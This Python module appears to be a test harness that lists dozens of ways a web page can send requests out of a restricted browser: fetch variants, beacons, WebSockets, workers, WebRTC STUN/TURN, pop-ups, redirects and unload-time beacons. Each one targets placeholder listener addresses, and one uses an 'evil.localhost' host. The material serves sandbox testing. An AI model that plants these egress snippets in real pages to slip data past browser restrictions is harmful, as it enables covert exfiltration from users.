"""What a way out of the browser is, and those that a page's scripts, workers and calls take."""

import json
from dataclasses import dataclass
from enum import Enum


class Place(Enum):
    """Where a channel is tried."""

    TOGETHER = "on one page with the others"
    FRAME = "in a frame of its own, which it may lead away"
    ALONE = "on a page of its own, which it may lead away"


class Ear(Enum):
    """What the listener needs to hear a channel that has no path of its own."""

    TCP = "tcp"
    UDP = "udp"


@dataclass(frozen=True)
class Channel:
    """One way out.

    In its page and headers, AWAY is the listener's address for it, EAR the host and port of its own ear, REDIRECTED and
    RESENT are addresses of the shop that lead to AWAY by 302 and 307, and TRIED one of the shop that says it was tried.
    """

    name: str
    page: str
    place: Place = Place.TOGETHER
    ear: Ear | None = None
    headers: tuple[tuple[str, str], ...] = ()


def script(code: str) -> str:
    """Do this."""
    return f"<script>{{{code}}}</script>"


def worker(code: str, kind: str = "Worker", options: str = "{}") -> str:
    """Have a worker do this."""
    blob = f"new Blob([{json.dumps(code)}],{{type:'text/javascript'}})"
    return script(f"new {kind}(URL.createObjectURL({blob}),{options})")


def call(server: str) -> str:
    """Look for ways to be called, of which this server is asked."""
    return script(
        f"const c=new RTCPeerConnection({{iceServers:[{{urls:'{server}',username:'u',credential:'c'}}]}});"
        "c.createDataChannel('x');c.onicegatheringstatechange=()=>c.iceGatheringState=='complete'&&fetch('TRIED');"
        "c.createOffer().then(offer=>c.setLocalDescription(offer))"
    )


def finally_told(promise: str) -> str:
    """Do this, and say that it was tried, however it ends."""
    return script(f"{promise}.catch(()=>0).then(()=>fetch('TRIED'))")


def at_the_end(event: str, code: str) -> str:
    """Do this when the page is left, which it is at once."""
    return script(f"addEventListener('{event}',()=>{code},true);location='/end'")


def in_a_window(code: str) -> str:
    """Do this with a new window, and say that it was tried; the window may be gone before it asks for anything."""
    return script(f"{code};fetch('TRIED')")


def fetched(address: str = "'AWAY'", options: str = "") -> str:
    return f"fetch({address},{{mode:'no-cors'{options}}}).catch(()=>0)"


BEACON = "navigator.sendBeacon('AWAY','x')"
SOCKET = "new WebSocket('ws://EAR/')"
PAYMENT = "new PaymentRequest([{supportedMethods:'AWAY'}],{total:{label:'x',amount:{currency:'USD',value:'1'}}})"

BY_SCRIPT = (
    Channel("fetch", script(fetched())),
    Channel("fetch-kept-alive", script(fetched(options=",keepalive:true"))),
    Channel("fetch-redirected", script(fetched("'REDIRECTED'"))),
    Channel("fetch-later", script("fetchLater('AWAY',{activateAfter:0})")),
    Channel("fetch-over-tls", script(fetched("'https://EAR/'")), ear=Ear.TCP),
    Channel("fetch-by-another-name", script(fetched("'AWAY'.replace('127.0.0.1','localhost')"))),
    Channel("fetch-by-a-name-below", script(fetched("'AWAY'.replace('127.0.0.1','evil.localhost')"))),
    Channel("fetch-by-ipv6", script(fetched("'AWAY'.replace('127.0.0.1','[::ffff:127.0.0.1]')"))),
    Channel("xhr", script("const x=new XMLHttpRequest;x.open('GET','AWAY');x.send()")),
    Channel("event-source", script("new EventSource('AWAY')")),
    Channel("web-socket", script(SOCKET), ear=Ear.TCP),
    Channel("web-socket-over-tls", script("new WebSocket('wss://EAR/')"), ear=Ear.TCP),
    Channel("beacon", script(BEACON)),
    Channel("dynamic-import", script("import('AWAY').catch(()=>0)")),
    Channel("font-loaded", script("new FontFace('l','url(AWAY)').load().catch(()=>0)")),
    Channel("audio-worklet", script("new OfflineAudioContext(1,1,8000).audioWorklet.addModule('AWAY').catch(()=>0)")),
    Channel("paint-worklet", script("CSS.paintWorklet.addModule('AWAY').catch(()=>0)")),
    Channel("pop-up", in_a_window("window.open('AWAY')")),
    Channel("pop-up-led-away", in_a_window("window.open('about:blank').location='AWAY'")),
    Channel("pop-up-written", in_a_window("window.open('about:blank').document.write('<img src=AWAY>')")),
    Channel("payment-method", finally_told(f"{PAYMENT}.canMakePayment()")),
    Channel(
        "federated-sign-in",
        finally_told("navigator.credentials.get({identity:{providers:[{configURL:'AWAY',clientId:'x'}]}})"),
    ),
)

BY_WORKERS = (
    Channel("worker-fetch", worker(fetched())),
    Channel("worker-web-socket", worker(SOCKET), ear=Ear.TCP),
    Channel("worker-event-source", worker("new EventSource('AWAY')")),
    Channel("worker-import", worker("importScripts('AWAY')")),
    Channel("worker-module", worker("import 'AWAY'", options="{type:'module'}")),
    Channel("worker-in-worker", worker(f"new Worker(URL.createObjectURL(new Blob([{json.dumps(fetched())}])))")),
    Channel("shared-worker-fetch", worker(fetched(), "SharedWorker")),
    Channel("shared-worker-web-socket", worker(SOCKET, "SharedWorker"), ear=Ear.TCP),
    Channel("shared-worker-import", worker("importScripts('AWAY')", "SharedWorker")),
    Channel("service-worker", finally_told("navigator.serviceWorker.register('/service-worker')")),
)

BY_CALLS = (
    Channel("call-stun", call("stun:EAR"), ear=Ear.UDP),
    Channel("call-turn-udp", call("turn:EAR?transport=udp"), ear=Ear.UDP),
    Channel("call-turn-tcp", call("turn:EAR?transport=tcp"), ear=Ear.TCP),
    Channel("call-turn-tls", call("turns:EAR?transport=tcp"), ear=Ear.TCP),
    Channel("web-transport", finally_told("new WebTransport('https://EAR/').ready"), ear=Ear.UDP),
)

BY_LEAVING = (
    Channel("page-redirected", script("location='REDIRECTED'"), Place.ALONE),
    Channel("page-led-away", script("location='AWAY'"), Place.ALONE),
    Channel("page-navigated", script("navigation.navigate('AWAY')"), Place.ALONE),
    Channel("page-refreshed", "<meta http-equiv=refresh content='0;url=AWAY'>", Place.ALONE),
    Channel("page-refreshed-by-header", "", Place.ALONE, headers=(("Refresh", "0;url=AWAY"),)),
    Channel("page-by-script-address", script(f'location="javascript:{fetched()}"'), Place.ALONE),
    Channel("beacon-at-the-end", at_the_end("pagehide", BEACON), Place.ALONE),
    Channel("beacon-at-unload", at_the_end("unload", BEACON), Place.ALONE),
    Channel("beacon-when-hidden", at_the_end("visibilitychange", BEACON), Place.ALONE),
    Channel("fetch-at-the-end", at_the_end("pagehide", fetched(options=",keepalive:true")), Place.ALONE),
    Channel("fetch-later-at-the-end", script("fetchLater('AWAY');location='/end'"), Place.ALONE),
)
